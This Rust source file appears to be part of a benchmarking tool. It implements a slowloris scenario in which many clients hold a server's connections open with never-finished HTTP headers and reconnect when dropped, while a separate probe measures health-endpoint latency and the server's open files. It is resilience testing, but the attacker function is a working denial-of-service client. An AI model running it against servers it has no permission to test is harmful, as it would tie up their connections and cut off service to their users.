//! The slowloris scenario (`--scenario slowloris`, not part of `all`): many
//! clients that each send a request line and then one header line every
//! `--slow-interval-ms`, never finishing their headers, and reconnect as soon
//! as they are cut off, so the attack keeps its size. Meanwhile the bench
//! probes `/api/v1/health` on a fresh connection every 100 ms, from a thread
//! and runtime of its own (the attackers' tasks keep this process's runtime
//! busy, and would otherwise delay the probe's own work), and samples the
//! server's open files (the connections it holds) every second.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Context;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_util::sync::CancellationToken;

use super::report::Percentiles;

/// The attack's size and pace.
pub struct Plan {
    pub connections: usize,
    pub interval: Duration,
    pub seconds: f64,
}

/// What the attack did and what the server did meanwhile.
#[derive(Default, serde::Serialize)]
pub struct Findings {
    /// Connections the attackers made (reconnections included).
    pub connections_made: u64,
    /// Connections the server cut off.
    pub cut_off: u64,
    /// Connect attempts that failed.
    pub connect_failures: u64,
    pub health: Option<Percentiles>,
    pub health_failures: u64,
    pub first_health_failure: Option<String>,
    /// The server's open files, sampled every second (max).
    pub server_open_files_max: Option<usize>,
}

#[derive(Default)]
struct Counters {
    made: AtomicU64,
    cut: AtomicU64,
    failed: AtomicU64,
}

/// Runs the attack against `addr` while probing `health_url`; `open_files`
/// reads the server's open files (None for an external target).
pub async fn run(
    addr: SocketAddr,
    health_url: &str,
    plan: &Plan,
    open_files: impl Fn() -> Option<usize>,
) -> anyhow::Result<Findings> {
    let counters = Arc::new(Counters::default());
    let stop = CancellationToken::new();
    let mut attackers = tokio::task::JoinSet::new();
    for _ in 0..plan.connections {
        attackers.spawn(attacker(
            addr,
            plan.interval,
            counters.clone(),
            stop.clone(),
        ));
    }
    let span = Duration::from_secs_f64(plan.seconds);
    let url = health_url.to_string();
    let prober = std::thread::spawn(move || -> anyhow::Result<(Vec<u64>, u64, Option<String>)> {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .context("cannot start the probe's runtime")?;
        runtime.block_on(probe(&url, span))
    });
    let mut findings = Findings::default();
    let end = Instant::now() + span;
    while Instant::now() < end {
        if let Some(n) = open_files() {
            findings.server_open_files_max =
                Some(findings.server_open_files_max.unwrap_or(0).max(n));
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    let (latencies_us, failures, first_failure) =
        tokio::task::spawn_blocking(move || prober.join())
            .await
            .context("the probe thread")?
            .map_err(|_| anyhow::anyhow!("the probe thread panicked"))??;
    findings.health_failures = failures;
    findings.first_health_failure = first_failure;
    stop.cancel();
    while attackers.join_next().await.is_some() {}
    findings.connections_made = counters.made.load(Ordering::Relaxed);
    findings.cut_off = counters.cut.load(Ordering::Relaxed);
    findings.connect_failures = counters.failed.load(Ordering::Relaxed);
    findings.health = Percentiles::of(latencies_us);
    Ok(findings)
}

/// Health on a fresh connection every 100 ms for `span`: the latencies (µs),
/// the failures and the first failure's reason.
async fn probe(url: &str, span: Duration) -> anyhow::Result<(Vec<u64>, u64, Option<String>)> {
    let client = reqwest::Client::builder()
        .pool_max_idle_per_host(0)
        .no_proxy()
        .timeout(Duration::from_secs(30))
        .build()
        .context("cannot build the health client")?;
    let end = Instant::now() + span;
    let (mut latencies_us, mut failures, mut first) = (Vec::new(), 0, None);
    while Instant::now() < end {
        let start = Instant::now();
        match client.get(url).send().await {
            Ok(r) if r.status().is_success() => {
                latencies_us.push(u64::try_from(start.elapsed().as_micros()).unwrap_or(u64::MAX))
            }
            Ok(r) => {
                failures += 1;
                first.get_or_insert(format!("status {}", r.status()));
            }
            Err(e) => {
                failures += 1;
                first.get_or_insert(e.to_string());
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Ok((latencies_us, failures, first))
}

/// One slowloris client, reconnecting when cut off, until `stop`.
async fn attacker(
    addr: SocketAddr,
    interval: Duration,
    counters: Arc<Counters>,
    stop: CancellationToken,
) {
    let mut buf = [0u8; 256];
    while !stop.is_cancelled() {
        let mut stream = tokio::select! {
            connected = TcpStream::connect(addr) => match connected {
                Ok(s) => s,
                Err(_) => {
                    counters.failed.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                }
            },
            _ = stop.cancelled() => return,
        };
        counters.made.fetch_add(1, Ordering::Relaxed);
        let mut line = b"GET /api/v1/health HTTP/1.1\r\nHost: herald\r\n".to_vec();
        let mut n = 0u64;
        loop {
            if stream.write_all(&line).await.is_err() {
                counters.cut.fetch_add(1, Ordering::Relaxed);
                break;
            }
            n += 1;
            line = format!("X-Slow-{n}: 1\r\n").into_bytes();
            tokio::select! {
                // Closed, reset, or answered: cut off.
                _ = stream.read(&mut buf) => {
                    counters.cut.fetch_add(1, Ordering::Relaxed);
                    break;
                }
                _ = tokio::time::sleep(interval) => {}
                _ = stop.cancelled() => return,
            }
        }
    }
}
